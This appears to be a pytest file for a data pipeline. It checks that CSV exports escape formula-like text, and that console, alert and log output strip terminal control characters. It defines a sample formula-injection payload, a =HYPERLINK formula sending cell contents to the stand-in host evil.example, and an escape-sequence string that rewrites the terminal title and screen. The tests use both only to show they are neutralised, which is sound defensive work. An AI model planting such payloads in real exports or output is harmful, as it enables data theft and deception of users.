"""Text from outside reaches neither a spreadsheet as a formula nor a terminal as a command."""

import json
import logging
import sys
from io import StringIO
from pathlib import Path

import msgspec
import pyarrow as pa
import pyarrow.csv
import pyarrow.parquet
import pytest
from rich.console import Console

from commands.alerts import alert_line, show_alerts
from commands.terminal import show_error, table, tell_bad_rows
from pipeline.batch import customer_table
from pipeline.files import BadRow
from pipeline.files.spreadsheet import FORMULA_STARTS, write_csv
from pipeline.operations.follow_alerts import Followed
from pipeline.outputs.publications import Alert
from pipeline.runtime import logging_setup
from pipeline.runtime.printable import printable, printable_lines

LINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
PAINT = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"  # sets the title, clears the screen, turns the text round


def written(tmp_path: Path, texts: list[str]) -> list[str]:
    file = tmp_path / "rows.csv"
    write_csv(pa.table({"customer": texts, "amount": [-5.0] * len(texts)}), file)
    found = pa.csv.read_csv(
        file, convert_options=pa.csv.ConvertOptions(strings_can_be_null=False),
        parse_options=pa.csv.ParseOptions(newlines_in_values=True),
    )  # fmt: skip
    assert found.column("amount").to_pylist() == [-5.0] * len(texts), "a number stays a number"
    return list(found.column("customer").to_pylist())


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_text_that_begins_like_a_formula_is_none(tmp_path: Path, start: str) -> None:
    assert written(tmp_path, [f"{start}1+1", start]) == [f"'{start}1+1", f"'{start}"]


def test_other_texts_are_written_as_they_are(tmp_path: Path) -> None:
    texts = ["", "ann", "1=1", "a@b.example", 'say "="', "a,b\n=1", "'=1", "é"]
    assert written(tmp_path, texts) == texts


def test_the_list_of_scored_customers_runs_nothing(tmp_path: Path) -> None:
    rows = pa.table({"customer": [LINK], "score": [0.5], "reasons": ["+SUM(A1) | -1"]})
    customer_table.write(rows, tmp_path / "scores.csv")
    assert (tmp_path / "scores.csv").read_text().splitlines()[1].startswith("\"'=HYPERLINK(")
    assert '"\'+SUM(A1) | -1"' in (tmp_path / "scores.csv").read_text()
    customer_table.write(rows, tmp_path / "scores.parquet")
    assert pa.parquet.read_table(tmp_path / "scores.parquet").equals(rows), "for programs it is what it was"


def test_no_module_writes_csv_around_it() -> None:
    """The generated data are for programs: their texts are of fixed vocabularies, and +33 is a country's code."""
    root = Path(__file__).parents[2]
    rooms = ("pipeline", "training", "export", "commands", "serving", "deploy")
    found = {
        str(file.relative_to(root))
        for room in rooms
        for file in (root / room).rglob("*.py")
        if any(
            word in file.read_text() for word in ("csv.write_csv", "to_csv(", "csv.writer", "csv.DictWriter")
        )
    }
    assert found == {"pipeline/files/spreadsheet.py", "training/generate/write.py"}


def test_a_control_character_is_shown_and_not_sent() -> None:
    shown = printable(f"a{PAINT}\r\nb")
    assert shown == (r"a\u001b]0;owned\u0007\u001b[2J\u009b31m\u202e\u000d\u000ab")
    assert printable("é ü 漢 🙂") == "é ü 漢 🙂"
    assert printable_lines("a\n\tb\r\x1bc") == "a\n\tb\\u000d\\u001bc"
    everything = "".join(map(chr, [*range(0x300), *range(0x2000, 0x2100)]))
    assert not set(printable(everything)) & set("\x00\x07\x08\x1b\x7f\x9b\r\n\u2028\u202e\u2066")


def alert() -> Followed:
    said = Alert(
        use_case="shop", customer=f"c{PAINT}", seq=1, event_id="s1", event_time="2024-01-02T09:00:00Z",
        assessed_at="2024-01-02T09:00:01Z", score=0.5, level_before="LOW", level=f"HIGH{PAINT}", transition=PAINT,
        model=f"m{PAINT}",
    )  # fmt: skip
    return Followed("id", said, msgspec.json.encode(said))


def test_no_view_sends_what_an_event_holds(capsys: pytest.CaptureFixture[str]) -> None:
    out = StringIO()
    console = Console(file=out, force_terminal=False, width=400)
    show_alerts([alert()], console)
    print(alert_line(alert()))
    print(table(("customer",), [(f"a{PAINT}\nb",)]))
    tell_bad_rows([("f.csv", BadRow(3, "invalid", PAINT))], 1)
    show_error(ValueError(f"one{PAINT}\ntwo"))
    printed = capsys.readouterr()
    for text in (out.getvalue(), printed.out, printed.err):
        assert text and not set(text) & {"\x1b", "\x07", "\x9b", "\u202e"}
    assert printed.err.splitlines()[-2:] == [f"riskstream: {printable(f'one{PAINT}')}", "riskstream: two"]
    assert json.loads(printable(alert().body.decode()))["customer"] == f"c{PAINT}", "still the same JSON"


def test_no_event_forges_a_line_of_the_log() -> None:
    record = logging.LogRecord(
        "x", logging.WARNING, "f", 1, "dead letter %s", (f"e\n2026 ERROR {PAINT}",), None
    )
    line = logging_setup.PlainLines(logging_setup.TEXT).format(record)
    assert "\n" not in line and "\x1b" not in line
    try:
        raise ValueError(PAINT)
    except ValueError:
        record.exc_info = sys.exc_info()
    lines = logging_setup.PlainLines(logging_setup.TEXT).format(record)
    assert lines.count("\n") > 1 and "\x1b" not in lines, "a traceback keeps its lines"
    assert "\x9b" not in logging_setup.JsonLines().format(record)
